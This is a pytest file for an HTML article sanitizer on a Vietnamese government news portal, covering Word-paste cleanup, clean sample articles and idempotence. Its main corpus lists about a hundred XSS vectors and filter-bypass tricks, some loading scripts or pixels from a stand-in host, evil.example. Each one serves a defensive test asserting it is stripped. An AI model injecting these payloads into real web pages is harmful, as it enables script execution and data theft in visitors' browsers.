"""Article bodies (portal.lib.sanitize): XSS corpus, Word paste, clean articles, idempotence."""

from __future__ import annotations

import re
import unicodedata

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.lib.sanitize import sanitize_article

PREFIX = "/tin-tuc/anh/"
REL = ' rel="noopener noreferrer"'

# The policy, written out again here so that the tests do not trust the module's own tables.
TAGS = {
    "p", "br", "h2", "h3", "h4", "strong", "b", "em", "i", "u", "s", "sub", "sup",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tfoot", "tr", "th", "td",
    "caption", "img", "figure", "figcaption", "hr",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height", "srcset", "sizes"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan", "scope"},
    "ol": {"start"},
}
HREF_RE = re.compile(r"(https://|mailto:|/(?!/))[^\x00-\x20\x7f\\]*", re.IGNORECASE)


def clean(html: str) -> str:
    return sanitize_article(html, image_prefix=PREFIX)


def local_image(url: str) -> bool:
    return url.startswith(PREFIX) and ".." not in url and "%" not in url and "\\" not in url


def assert_allowed(output: str) -> None:
    """Parse the output as a browser would and hold every node against the policy."""
    fragment = html5lib.parseFragment(output, namespaceHTMLElements=False)
    for element in fragment.iter():
        if element is fragment:
            continue
        assert isinstance(element.tag, str), f"comment or other node in {output!r}"
        assert element.tag in TAGS, f"<{element.tag}> in {output!r}"
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES.get(element.tag, set()), f"{name} on <{element.tag}>"
            if name == "href":
                assert HREF_RE.fullmatch(value.strip()), f"href {value!r}"
            if name == "rel":
                assert element.get("href", "").lower().startswith("https://")
                assert value == "noopener noreferrer"
            if name == "src":
                assert local_image(value), f"src {value!r}"
            if name == "srcset":
                assert all(local_image(c.split()[0]) for c in value.split(",")), value
        if element.tag == "a" and element.get("href", "").lower().startswith("https://"):
            assert element.get("rel") == "noopener noreferrer"
        if element.tag == "img":
            assert "src" in element.attrib


def assert_safe(output: str) -> None:
    lowered = output.lower()
    for needle in ("<script", "javascript:", "vbscript:", "data:", "<iframe", "<svg", "<math"):
        assert needle not in lowered, f"{needle} in {output!r}"
    assert "style=" not in lowered
    assert not re.search(r"\bon[a-z]+\s*=", lowered), output
    assert "evil" not in lowered, output
    assert_allowed(output)


# --- XSS corpus ------------------------------------------------------------------------------

XSS_VECTORS = [
    # script elements, casings, tricks
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="module">import("https://evil.example/m.js")</script>',
    '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<p>Tin<script>alert(1)",
    '<img """><script>alert(1)</script>">',
    "<p <script>alert(1)</script>>x</p>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="/tin-tuc/anh/a-480.jpg" onerror="alert(1)" onload="alert(2)">',
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    '<div onmouseover="alert(1)">rê chuột</div>',
    '<p onclick="alert(1)">bấm</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<audio src onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red" class="x" id="y" '
    'target="_blank">x</a>',
    # URL schemes and their disguises
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="http://evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="/&#x09;/evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="javascript:alert(1)"',
    # svg and math
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    # style
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<DIV STYLE="background-image: url(&#1;javascript:alert(1))">x</DIV>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # frames, objects, documents
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<BASE HREF="javascript:alert(1);//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>Gửi</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<BGSOUND SRC="javascript:alert(1);">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td>'
    "</tr></table>",
    # raw text elements
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><script>alert(1)</script></noembed>",
    "<plaintext><script>alert(1)</script>",
    # comments
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p>a<!-- --><script>alert(1)</script></p>",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # images
    '<img src="https://evil.example/pixel.gif">',
    '<img src="http://evil.example/pixel.gif">',
    '<img src="//evil.example/x.jpg">',
    '<img src="/tin-tuc/anh/../../etc/passwd">',
    '<img src="/tin-tuc/anh/%2e%2e/%2e%2e/admin">',
    '<img src="/tin-tuc/anh/a.jpg/../../../evil.jpg">',
    '<img src="/tin-tuc/anh\\..\\evil.jpg">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="/tin-tuc/anh/a-480.jpg" srcset="https://evil.example/x.jpg 2x">',
    '<img src="/tin-tuc/anh/a-480.jpg" srcset="/tin-tuc/anh/a-960.jpg 2x, //evil.example/x 3x">',
    '<img src="/tin-tuc/anh/a-480.jpg" style="background:url(https://evil.example/)">',
    '<img src=x onerror="alert(1)"',
]

# Unclosed raw-text elements and tags swallow what follows, in a browser as here.
SWALLOW_THE_REST = {
    "<p>Tin<script>alert(1)",
    "<plaintext><script>alert(1)</script>",
    '<a href="javascript:alert(1)"',
    '<img src=x onerror="alert(1)"',
}


def test_the_corpus_is_large_enough() -> None:
    assert len(XSS_VECTORS) >= 60
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector: str) -> None:
    output = clean(vector)
    assert_safe(output)
    assert clean(output) == output


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_inside_an_article(vector: str) -> None:
    output = clean(f"<h2>Tin mới</h2><p>Trước {vector} sau</p><p>Kết thúc</p>")
    assert_safe(output)
    assert "Trước" in output
    if vector not in SWALLOW_THE_REST:
        assert "Kết thúc" in output
    assert clean(output) == output


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>alert(1)</script><p>Hi</p>", "<p>Hi</p>"),
        ("<p>a<style>p{color:red}</style>b</p>", "<p>ab</p>"),
        ("<p>a<iframe>c</iframe><noscript>d</noscript><template>e</template>b</p>", "<p>ab</p>"),
        ("<p>a<svg><text>c</text></svg><math><mi>d</mi></math>b</p>", "<p>ab</p>"),
        ("<title>Tiêu đề</title><p>x</p>", "<p>x</p>"),
        ("<h1>Tiêu đề</h1>", "<h2>Tiêu đề</h2>"),
        ("<H1 class=x>A</H1>", "<h2>A</h2>"),
        ("<h5>a</h5><span>b</span><font>c</font>", "abc"),
        ('<a href="javascript:alert(1)">đây</a>', "<a>đây</a>"),
        ('<a href="//evil.example">x</a>', "<a>x</a>"),
        (
            '<a href="https://x.vn" rel="opener" target="_blank">x</a>',
            f'<a href="https://x.vn"{REL}>x</a>',
        ),
        ('<a href="HTTPS://x.vn">x</a>', f'<a href="HTTPS://x.vn"{REL}>x</a>'),
        ('<a href="mailto:a@b.vn" rel="x">m</a>', '<a href="mailto:a@b.vn">m</a>'),
        (
            '<a href="/tin-tuc/a?x=1&amp;y=2#z" title="t">r</a>',
            '<a href="/tin-tuc/a?x=1&amp;y=2#z" title="t">r</a>',
        ),
        ('<a href="#muc-1">r</a>', "<a>r</a>"),
        ('<a href="tin-tuc/a">r</a>', "<a>r</a>"),
        (
            '<img src="/tin-tuc/anh/a-480.jpg" srcset="x 1x" alt="A">',
            '<img src="/tin-tuc/anh/a-480.jpg" alt="A">',
        ),
        ('<img alt="no source">', ""),
        ('<ol start="3" type="a"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'),
        ('<td colspan="2">x</td>', "x"),
        ("<p>Nguye\u0302\u0303n</p>", "<p>Nguyễn</p>"),
        (
            '<img src="/tin-tuc/anh/a.jpg" alt="Nguye\u0302\u0303n">',
            '<img src="/tin-tuc/anh/a.jpg" alt="Nguyễn">',
        ),
        ("<p>a&nbsp;b &amp; &lt;c&gt; &quot;</p>", '<p>a\u00a0b &amp; &lt;c&gt; "</p>'),
        ("<p>một<p>hai", "<p>một</p><p>hai</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<b><i>x</b></i>", "<b><i>x</i></b>"),
        ("", ""),
    ],
)
def test_examples(html: str, expected: str) -> None:
    assert clean(html) == expected


def test_image_prefix_must_be_a_folder() -> None:
    with pytest.raises(ValueError, match="image_prefix"):
        sanitize_article("<p>x</p>", image_prefix="tin-tuc")


# --- Word ------------------------------------------------------------------------------------

WORD_PASTE = """<html xmlns:v="urn:schemas-microsoft-com:vml"
xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word"
xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv=Content-Type content="text/html; charset=utf-8">
<meta name=Generator content="Microsoft Word 15 (filtered medium)">
<title>Bao cao</title>
<!--[if gte mso 9]><xml>
 <o:DocumentProperties><o:Author>Nguyễn Văn A</o:Author></o:DocumentProperties>
</xml><![endif]-->
<style>
<!--
 /* Style Definitions */
 p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm;margin-bottom:.0001pt;font-size:13.0pt;font-family:"Times New Roman",serif;}
@page WordSection1 {size:595.3pt 841.9pt;}
-->
</style>
</head>
<body lang=VI link="#0563C1" vlink="#954F72" style='tab-interval:36.0pt'>
<!--StartFragment-->
<div class=WordSection1>
<h1 style='margin-top:12.0pt;mso-outline-level:1'><span lang=VI style='mso-ansi-language:VI'>\
Phong trào thi đua “Dân vận khéo” năm 2026<o:p></o:p></span></h1>
<p class=MsoNormal style='text-align:justify;line-height:150%'><span lang=VI \
style='font-size:13.0pt;line-height:150%;mso-fareast-font-family:"Times New Roman"'>\
Thực hiện <b style='mso-bidi-font-weight:normal'>Kế hoạch số 15-KH/BDV</b>, \
Ban Dân vận Tỉnh ủy hướng dẫn <i style='mso-bidi-font-style:normal'>triển khai</i> \
phong trào như sau:<o:p></o:p></span></p>
<h2><span lang=VI>1. Mục đích<o:p></o:p></span></h2>
<ul style='margin-top:0cm' type=disc>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1;tab-stops:list 36.0pt'><![if !supportLists]>\
<span style='font-family:Symbol;mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>\
&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]><span lang=VI>Nâng cao nhận thức của cán bộ\
<o:p></o:p></span></li>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1;tab-stops:list 36.0pt'><span lang=VI>\
Phát huy quyền làm chủ của Nhân dân<o:p></o:p></span></li>
</ul>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0
 style='border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt;
 mso-yfti-tbllook:1184;mso-padding-alt:0cm 5.4pt 0cm 5.4pt'>
 <tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'>
  <td width=301 valign=top style='width:225.4pt;border:solid windowtext 1.0pt;
  padding:0cm 5.4pt 0cm 5.4pt'><p class=MsoNormal><b><span lang=VI>Đơn vị<o:p></o:p></span>\
</b></p></td>
  <td width=301 valign=top style='width:225.4pt;border:solid windowtext 1.0pt;
  border-left:none;padding:0cm 5.4pt 0cm 5.4pt'><p class=MsoNormal><b><span lang=VI>\
Số mô hình<o:p></o:p></span></b></p></td>
 </tr>
 <tr style='mso-yfti-irow:1;mso-yfti-lastrow:yes'>
  <td width=301 valign=top style='width:225.4pt;border:solid windowtext 1.0pt;
  border-top:none;padding:0cm 5.4pt 0cm 5.4pt'><p class=MsoNormal><span lang=VI>\
Huyện Châu Thành<o:p></o:p></span></p></td>
  <td width=301 valign=top style='width:225.4pt;border-top:none;border-left:none;
  border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt'>\
<p class=MsoNormal align=right style='text-align:right'><span lang=VI>12<o:p></o:p></span></p></td>
 </tr>
</table>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal><span lang=VI>Xem chi tiết tại <a \
href="https://dangcongsan.vn/dan-van-kheo"><span style='color:#0563C1'>Cổng thông tin</span></a>\
.<o:p></o:p></span></p>
<![if !vml]><img width=200 height=100 src="file:///C:/Users/A/AppData/Local/Temp/msohtmlclip1/\
01/clip_image001.png" v:shapes="Picture_x0020_1"><![endif]>
</div>
<!--EndFragment-->
</body>
</html>
"""

# Markup, styling, metadata and hidden text of the paste; none of it may survive.
WORD_LEFTOVERS = [
    "mso", "Mso", "o:p", "class", "lang", "width", "Style Definitions", "Bao cao",
    "Nguyễn Văn A", "StartFragment", "·", "clip_image", "[if",
]  # fmt: skip


def test_word_paste_keeps_structure_and_nothing_else() -> None:
    output = clean(WORD_PASTE)
    assert_safe(output)
    assert output.startswith("<h2>Phong trào")
    assert output.endswith("Cổng thông tin</a>.</p>")
    fragment = html5lib.parseFragment(output, namespaceHTMLElements=False)
    used = {element.tag for element in fragment.iter() if element is not fragment}
    assert used == {"h2", "p", "b", "i", "ul", "li", "table", "tbody", "tr", "td", "a"}
    assert "<h2>Phong trào thi đua “Dân vận khéo” năm 2026</h2>" in output
    assert "<h2>1. Mục đích</h2>" in output
    assert "<b>Kế hoạch số 15-KH/BDV</b>" in output
    assert "<i>triển khai</i>" in output
    assert "<li>Nâng cao nhận thức của cán bộ</li>" in output
    assert "<li>Phát huy quyền làm chủ của Nhân dân</li>" in output
    assert "<td><p><b>Đơn vị</b></p></td>" in output
    assert "<td><p>12</p></td>" in output
    assert f'<a href="https://dangcongsan.vn/dan-van-kheo"{REL}>Cổng thông tin</a>' in output
    for leftover in WORD_LEFTOVERS:
        assert leftover not in output, leftover
    assert clean(output) == output


# --- clean articles --------------------------------------------------------------------------

CLEAN_ARTICLES = [
    """<h2>Hội nghị tổng kết phong trào “Dân vận khéo” năm 2026</h2>
<p>Sáng ngày 15/12, Ban Dân vận Tỉnh ủy tổ chức <strong>Hội nghị tổng kết</strong> phong trào \
thi đua “Dân vận khéo” giai đoạn 2021–2026. Đồng chí <em>Trần Thị Bích Ngọc</em>, Trưởng Ban \
Dân vận Tỉnh ủy, chủ trì hội nghị.</p>
<figure><img src="/tin-tuc/anh/3f2a9c1b7d4e4f6a8b0c1d2e3f4a5b6c-960.jpg" \
srcset="/tin-tuc/anh/3f2a9c1b7d4e4f6a8b0c1d2e3f4a5b6c-480.jpg 480w, \
/tin-tuc/anh/3f2a9c1b7d4e4f6a8b0c1d2e3f4a5b6c-960.jpg 960w" \
sizes="(max-width: 600px) 480px, 960px" alt="Quang cảnh hội nghị" width="960" height="640">\
<figcaption>Quang cảnh hội nghị tại Hội trường Tỉnh ủy.</figcaption></figure>
<h3>Kết quả nổi bật</h3>
<ul>
<li>Xây dựng <b>1.245</b> mô hình “Dân vận khéo” trên các lĩnh vực;</li>
<li>Vận động Nhân dân hiến hơn 35.000 m² đất làm đường giao thông nông thôn;</li>
<li>Hỗ trợ xây dựng 312 căn nhà Đại đoàn kết.</li>
</ul>
<p>Toàn văn báo cáo đăng tại <a href="https://dangcongsan.vn/tu-tuong-van-hoa/dan-van-kheo.html"\
{rel}>Báo điện tử Đảng Cộng sản Việt Nam</a>. Mọi góp ý xin gửi về \
<a href="mailto:banddanvan@tinh.gov.vn">banddanvan@tinh.gov.vn</a>.</p>""",
    """<h2>Thông báo lịch tiếp công dân tháng 01/2027</h2>
<p>Ban Dân vận Tỉnh ủy thông báo lịch tiếp công dân định kỳ như sau:</p>
<table><caption>Lịch tiếp công dân</caption><thead><tr><th scope="col">Ngày</th>\
<th scope="col">Người chủ trì</th><th scope="col">Địa điểm</th></tr></thead>
<tbody><tr><td>Thứ Hai, 04/01</td><td>Đồng chí Phó Trưởng ban Thường trực</td>\
<td rowspan="2">Trụ sở Tiếp công dân tỉnh, số 1 đường Lê Lợi</td></tr>
<tr><td>Thứ Năm, 14/01</td><td>Đồng chí Trưởng ban</td></tr>
<tr><td colspan="3">Công dân mang theo căn cước công dân &amp; giấy tờ liên quan.</td></tr>\
</tbody></table>
<ol start="2">
<li>Đăng ký trước qua số điện thoại 0273 3872 000;</li>
<li>Xem hướng dẫn tại <a href="/tiep-cong-dan/huong-dan" title="Hướng dẫn">trang hướng dẫn</a>.\
</li>
</ol>
<blockquote><p>“Dân biết, dân bàn, dân làm, dân kiểm tra, dân giám sát, dân thụ hưởng.”</p>\
</blockquote>
<p>Công dân có thể gửi kiến nghị qua <a href="https://dichvucong.gov.vn/p/home/dvc-trang-chu.html"\
{rel}>Cổng Dịch vụ công quốc gia</a> hoặc thư điện tử \
<a href="mailto:tiepcongdan@tinh.gov.vn?subject=Ki%E1%BA%BFn%20ngh%E1%BB%8B">\
tiepcongdan@tinh.gov.vn</a>.</p>""",
    """<h2>Nghiên cứu về chất lượng nước sinh hoạt ở vùng ven biển</h2>
<h3>Bối cảnh</h3>
<p>Nồng độ CO<sub>2</sub> hòa tan và diện tích 2.500 m<sup>2</sup> ao lắng được khảo sát; \
số liệu <s>năm 2024</s> <u>năm 2025</u> đã được cập nhật.<br>Nguồn: Sở Nông nghiệp và Môi \
trường.</p>
<hr>
<h4>Ghi chú</h4>
<p><img src="/tin-tuc/anh/0a1b2c3d4e5f60718293a4b5c6d7e8f9-480.png" alt="Biểu đồ độ mặn" \
width="480" height="320"></p>
<p>Xem thêm: <a href="/tin-tuc/2026/nuoc-sach-nong-thon">Nước sạch nông thôn</a>, \
<a href="https://monre.gov.vn/"{rel}>Bộ Nông nghiệp và Môi trường</a>. Liên hệ tác giả: \
<a href="mailto:phongnghiencuu@tinh.gov.vn" title="Phòng Nghiên cứu">phongnghiencuu@tinh.gov.vn</a>\
.</p>""",
]


@pytest.mark.parametrize("article", CLEAN_ARTICLES)
def test_clean_article_is_unchanged_except_rel(article: str) -> None:
    source = article.replace("{rel}", "")
    expected = article.replace("{rel}", REL)
    assert REL in expected
    assert 'href="mailto:' in expected
    assert clean(source) == expected
    assert clean(expected) == expected


# --- properties ------------------------------------------------------------------------------

FORBIDDEN_TAGS = [
    "script", "style", "iframe", "object", "embed", "svg", "math", "div", "span", "font",
    "h1", "h5", "form", "noscript", "template", "title", "textarea", "xmp", "o:p", "select",
    "button", "video", "base", "meta", "link", "input", "body", "html", "head", "mtext",
    "mglyph", "desc", "foreignobject", "plaintext",
]  # fmt: skip
ATTRIBUTE_POOL = [
    ("href", "https://example.vn/a"), ("href", "javascript:alert(1)"), ("href", "/tin-tuc/x"),
    ("href", "//evil.example"), ("href", "mailto:a@b.vn"), ("href", "&#106;avascript:x"),
    ("src", "/tin-tuc/anh/a-480.jpg"), ("src", "https://evil.example/x.png"),
    ("src", "/tin-tuc/anh/../x"), ("srcset", "/tin-tuc/anh/a-480.jpg 480w"),
    ("srcset", "//evil.example/x 2x"), ("onerror", "alert(1)"), ("onload", "alert(1)"),
    ("style", "color:red"), ("class", "MsoNormal"), ("id", "x"), ("title", "Tiêu \"đề\""),
    ("alt", "Ảnh <b>"), ("colspan", "2"), ("start", "3"), ("rel", "opener"),
]  # fmt: skip
TEXT_POOL = [
    "Dân vận", "khéo", " ", "\n", "<", ">", "&", "&amp;", "&nbsp;", "&#106;", "\"", "'",
    "Nguye\u0302\u0303n", "alert(1)", "<!--", "-->", "</p>", "<b", "<![CDATA[", "]]>", "\x00",
    "\x01", "\u200b", "&lt;script&gt;",
]  # fmt: skip


def _element(children: list[str], tag: str, attrs: list[tuple[str, str]]) -> str:
    rendered = "".join(f' {name}="{value}"' for name, value in attrs)
    return f"<{tag}{rendered}>{''.join(children)}</{tag}>"


html_fragments = st.recursive(
    st.sampled_from(TEXT_POOL),
    lambda inner: st.builds(
        _element,
        st.lists(inner, max_size=4),
        st.sampled_from(sorted(TAGS) + FORBIDDEN_TAGS),
        st.lists(st.sampled_from(ATTRIBUTE_POOL), max_size=3),
    ),
    max_leaves=12,
)


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(html_fragments, min_size=1, max_size=4).map("".join))
def test_sanitize_is_idempotent_and_allow_listed(html: str) -> None:
    output = clean(html)
    assert clean(output) == output
    assert_allowed(output)
    assert output == unicodedata.normalize("NFC", output)
    assert "<script" not in output.lower()
    assert "javascript:" not in output.lower()
